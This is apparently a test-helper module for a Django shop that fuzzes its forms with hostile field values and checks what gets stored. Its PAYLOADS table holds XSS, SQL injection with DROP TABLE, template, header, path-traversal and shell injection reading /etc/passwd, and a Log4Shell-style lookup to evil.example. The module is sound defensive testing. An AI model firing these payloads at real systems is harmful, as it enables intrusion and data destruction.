"""What attackers send to the shop's pages, and a browser that sends it as bytes."""

from __future__ import annotations

from urllib.parse import urlencode

from django.apps import apps
from django.http import HttpResponse
from django.urls import URLPattern, get_resolver

from tests.storefront.conftest import ORIGIN, Browser
from troth.pledge.policy.probe import values

OURS = {"HTTP_ORIGIN": ORIGIN, "HTTP_SEC_FETCH_SITE": "same-origin"}
URLENCODED = "application/x-www-form-urlencoded"
NEEDLE = "zqattackerz"
MALLORY = {"name": "Mallory", "email": "mallory@evil.example", "password": "kettle and moon", "postcode": "E1 1AA"}

# What is sent in the place of a field's value, as bytes. Each holds the needle where it can.
PAYLOADS: dict[str, bytes] = {
    "a megabyte": NEEDLE.encode() + b"A" * 1_000_000,
    "half a megabyte": NEEDLE.encode() + b"A" * 500_000,
    "NUL": f"{NEEDLE}\0x".encode(),
    "half a pair": NEEDLE.encode() + b"\xed\xa0\x80",
    "no UTF-8": NEEDLE.encode() + b"\xff\xfe\xc3\x28",
    "overlong UTF-8": NEEDLE.encode() + b"\xc0\xae\xc0\xae/",
    "UTF-16": NEEDLE.encode("utf-16"),
    "turned": f"{NEEDLE}\u202egnp.exe".encode(),
    "isolated": f"{NEEDLE}\u2066x\u2069".encode(),
    "many marks": NEEDLE.encode() + "\u0301".encode() * 200,
    "2^31": b"2147483648",
    "2^63": b"9223372036854775808",
    "2^64": b"18446744073709551616",
    "digits": b"9" * 5000,
    "1e309": b"1e309",
    "NaN": b"NaN",
    "-Infinity": b"-Infinity",
    "-0": b"-0",
    "-1": b"-1",
    "0x10": b"0x10",
    "1_000": b"1_000",
    "other digits": "\u0661\u0662\uff13".encode(),
    "script": f"<script>{NEEDLE}</script>".encode(),
    "attribute": f'{NEEDLE}" onfocus="alert(1)" autofocus="'.encode(),
    "header": f"{NEEDLE}\r\nBcc: evil@evil.example\r\n\r\nhello".encode(),
    "traversal": f"../../../../etc/{NEEDLE}".encode(),
    "Jinja": f"{NEEDLE}{{{{7*7}}}}{{% for x in ().__class__.__mro__ %}}".encode(),
    "format": f"{NEEDLE}%s%n{{0.__class__}}".encode(),
    "SQL": f"{NEEDLE}' OR 1=1; DROP TABLE orders_order; --".encode(),
    "JSON": f'{{"{NEEDLE}": {{"$gt": ""}}}}'.encode(),
    "shell": f"{NEEDLE}; `id` $(id) | cat /etc/passwd".encode(),
    "log": f"{NEEDLE}${{jndi:ldap://evil.example/x}}".encode(),
    "card": f"{NEEDLE} 4111-1111-1111-1111".encode(),
    "card, full width": NEEDLE.encode() + "".join(chr(0xFF10 + int(d)) for d in "5555555555554444").encode(),
    "card, joined unseen": NEEDLE.encode() + "\u2060".join("378282246310005").encode(),
    "nothing": b"",
    "blank": "\u00a0\u3000 ".encode(),
}


def rows() -> dict[str, int]:
    return {model._meta.db_table: model._default_manager.count() for model in apps.get_models()}


def in_clear(text: str) -> set[str]:
    """The columns in which a text stands."""
    return {place for place, value in values() if text in value}


def patterns() -> list[URLPattern]:
    return list(get_resolver().url_patterns)


def send(browser: Browser, path: str, fields: dict[str, str | bytes] | bytes, **more: str) -> HttpResponse:
    """Post a form as whatever bytes. A middleware's or view's own fault is answered as the shop does, with 500."""
    browser.raise_request_exception = False
    body = fields if isinstance(fields, bytes) else urlencode(fields).encode()
    return browser.generic("POST", path, body, more.pop("content_type", URLENCODED), **{**OURS, **more})


def look(browser: Browser, path: str, **more: str) -> HttpResponse:
    browser.raise_request_exception = False
    return browser.get(path, **more)


def form_token(browser: Browser) -> str:
    return browser.page("/recover").form("/recover")["csrfmiddlewaretoken"]
